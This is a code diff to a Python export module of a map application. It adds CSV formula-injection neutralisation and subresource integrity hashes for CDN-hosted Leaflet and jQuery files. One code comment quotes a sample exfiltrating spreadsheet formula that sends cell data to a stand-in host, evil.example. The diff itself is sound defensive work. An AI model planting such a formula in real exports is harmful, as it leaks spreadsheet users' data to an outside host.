@@ -66,8 +66,24 @@ def display_table(catalog: Catalog, lang: str = "en") -> pd.DataFrame:
     return t.rename(columns=headers)
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula
+# (=HYPERLINK("http://evil.example/?leak="&A1, …)): OWASP's CSV injection advice
+# is to prefix such a cell with a single quote, which shows it as text.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value):
+    """A CSV cell that a spreadsheet will not run as a formula (strings only; numbers stay numbers)."""
+    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value
+
+
+def csv_bytes(table: pd.DataFrame) -> bytes:
+    """Any table as a UTF-8 CSV download, every text cell neutralised."""
+    return table.rename(columns=neutralise).map(neutralise).to_csv(index=False).encode("utf-8")
+
+
 def to_csv(catalog: Catalog) -> bytes:
-    return features_table(catalog).to_csv(index=False).encode("utf-8")
+    return csv_bytes(features_table(catalog))
 
 
 def to_geojson(catalog: Catalog) -> bytes:
@@ -106,12 +122,9 @@ def standalone_html(catalog: Catalog, *, inline: bool = True, lang: str = "en") 
 
     m = mapview.build_map(catalog, lang=lang)
     if not inline:
-        m.default_js = [
-            ("leaflet", "https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.js"),
-            ("jquery", "https://code.jquery.com/jquery-3.7.1.min.js"),
-        ]
-        m.default_css = [("leaflet_css", "https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.css")]
-        return m.get_root().render().encode("utf-8")
+        m.default_js = [(name, CDN[url]) for name, url in mapview.LOCAL_JS]
+        m.default_css = [(name, CDN[url]) for name, url in mapview.LOCAL_CSS]
+        return _with_integrity(m.get_root().render()).encode("utf-8")
     html = m.get_root().render()
     for _name, url in mapview.LOCAL_JS:
         code = _static_text(url).replace("</script", "<\\/script")
@@ -121,12 +134,44 @@ def standalone_html(catalog: Catalog, *, inline: bool = True, lang: str = "en") 
     return html.encode("utf-8")
 
 
-def _static_text(url: str) -> str:
-    """The text of a file the app serves at /app/static/…, read from its XStatic package."""
+def _cdn() -> dict[str, str]:
+    from atlas.mapview import LOCAL_CSS, LOCAL_JS
+
+    urls = {
+        "leaflet": "https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.js",
+        "jquery": "https://code.jquery.com/jquery-3.7.1.min.js",
+        "leaflet_css": "https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.css",
+    }
+    return {local: urls[name] for name, local in (*LOCAL_JS, *LOCAL_CSS)}
+
+
+CDN = _cdn()  # the app's local static URL -> the same file of the same version on a CDN
+
+
+def _with_integrity(html: str) -> str:
+    """Subresource integrity on every CDN file: the hash of the very file the app serves
+    from its XStatic package (the same release), so a changed CDN copy is refused."""
+    import base64
+    import hashlib
+
+    for local, cdn in CDN.items():
+        digest = hashlib.sha384(_static_file(local).read_bytes()).digest()
+        sri = f'integrity="sha384-{base64.b64encode(digest).decode()}" crossorigin="anonymous"'
+        html = html.replace(f'<script src="{cdn}"></script>', f'<script src="{cdn}" {sri}></script>')
+        html = html.replace(f'<link rel="stylesheet" href="{cdn}"/>', f'<link rel="stylesheet" href="{cdn}" {sri}/>')
+    return html
+
+
+def _static_file(url: str):
+    """The file the app serves at /app/static/…, in its XStatic package."""
     from atlas import assets
     from atlas.mapview import STATIC_BASE
 
-    return assets.bundled_file(url.removeprefix(STATIC_BASE + "/")).read_text(encoding="utf-8")
+    return assets.bundled_file(url.removeprefix(STATIC_BASE + "/"))
+
+
+def _static_text(url: str) -> str:
+    return _static_file(url).read_text(encoding="utf-8")
 
 
 def _inline_images(css: str) -> str:
